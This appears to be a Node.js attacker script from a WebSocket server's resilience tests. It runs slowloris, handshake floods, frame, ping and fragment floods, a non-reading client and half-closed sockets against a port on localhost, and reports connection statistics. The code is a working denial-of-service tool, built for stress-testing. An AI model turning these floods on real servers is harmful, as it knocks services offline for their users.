// An attack, in a process of its own so that it does not slow down who measures: node attacker.mjs KIND PORT N
// Says "ready" once it is under way, and a line of figures on each line that it reads; after "reset" its sockets are gone.
import net from 'node:net';
import readline from 'node:readline';
import { TEXT, BINARY, PING, frame, upgrade } from './raw.mjs';

const [kind, port, n] = [process.argv[2], Number(process.argv[3]), Number(process.argv[4])];
const count = { connected: 0, ended: 0, answers: {}, bytes: 0 };
const open = new Set();
let up = 0;

const ready = (yes = true) => {
	if (yes && !ready.said) process.stdout.write('ready\n');
	ready.said ||= yes;
};

// opts: hear(socket, text of the answer's first bytes), ended(socket)
function connect(begin, { hear = () => {}, ended = () => {} } = {}) {
	const s = net.connect({ port, host: '127.0.0.1', allowHalfOpen: true, noDelay: true });
	s.on('connect', () => {
		count.connected++;
		open.add(s);
		begin(s);
	});
	s.once('data', (d) => {
		const status = d.subarray(9, 12).toString('latin1');
		count.answers[status] = (count.answers[status] ?? 0) + 1;
		hear(s, status);
	});
	s.on('data', () => {});
	s.on('error', () => {});
	s.on('close', () => {
		open.delete(s);
		count.ended++;
		ended(s);
	});
	return s;
}

// Writes the same bytes for ever, as fast as they are taken.
function pour(s, bytes) {
	const more = () => {
		for (let i = 0; i < 8 && !s.destroyed; i++) {
			count.bytes += bytes.length;
			if (!s.write(bytes)) return s.once('drain', more);
		}
		if (!s.destroyed) setImmediate(more);
	};
	more();
}

// Upgrades n connections, then does something with each.
function upgraded(what) {
	for (let i = 0; i < n; i++) {
		connect((s) => s.write(upgrade(`/ws/chat/attacker${i}/`)), {
			hear: (s, status) => {
				if (status === '101') what(s);
				ready(++up === n);
			},
		});
	}
}

const many = (one, times) => Buffer.concat(Array.from({ length: times }, one));

const kinds = {
	// Requests that never end, a byte at a time; who is cut off comes back.
	slowloris() {
		const one = () => connect((s) => ready(open.size >= n), { hear: (s) => s.end(), ended: () => setTimeout(one, 50) });
		for (let i = 0; i < n; i++) one();
		setInterval(() => {
			for (const s of open) s.write('x');
		}, 500);
	},
	// Whole handshakes, n at a time, dropped as soon as they are answered.
	handshakes() {
		let k = 0;
		const one = () => connect((s) => s.write(upgrade(`/ws/chat/flood${k++ % 5000}/`)), {
			hear: (s) => s.destroy(),
			ended: () => {
				ready(count.ended > 200);
				one();
			},
		});
		for (let i = 0; i < n; i++) one();
	},
	frames() {
		const bytes = many(() => frame(TEXT, 'x'), 500);
		upgraded((s) => pour(s, bytes));
	},
	pings() {
		const bytes = many(() => frame(PING, Buffer.alloc(125)), 100);
		upgraded((s) => {
			s.pause();
			pour(s, bytes);
		});
	},
	// One message that never ends, in frames of one byte; 100,000 of them.
	fragments() {
		const bytes = Buffer.concat([frame(TEXT, 'x', { fin: false }), many(() => frame(0, 'x', { fin: false }), 100000)]);
		upgraded((s) => s.write(bytes));
	},
	// Sends, and never reads what it is sent.
	deaf() {
		const bytes = frame(BINARY, Buffer.alloc(2000));
		upgraded((s) => {
			s.pause();
			pour(s, bytes);
		});
	},
	// Half of them end their side and keep the socket; the others are refused, and never end theirs.
	halves() {
		let k = 0, pending = 0;
		const next = () => {
			for (; pending < 200 && k < n; k++, pending++) {
				const half = k % 2;
				const s = connect(() => (half ? s.end(upgrade(`/ws/chat/half${k % 500}/`)) : s.write(upgrade('/nothing/'))), {
					hear: () => {
						pending--;
						next();
					},
				});
				s.on('end', () => {
					if (half && !s.bytesRead) {
						pending--;
						next();
					}
				});
			}
			ready(k >= n && pending === 0);
		};
		next();
	},
};

kinds[kind]();
readline.createInterface({ input: process.stdin }).on('line', (what) => {
	if (what === 'reset') for (const s of open) s.resetAndDestroy();
	process.stdout.write(`${JSON.stringify({ ...count, open: open.size })}\n`);
});
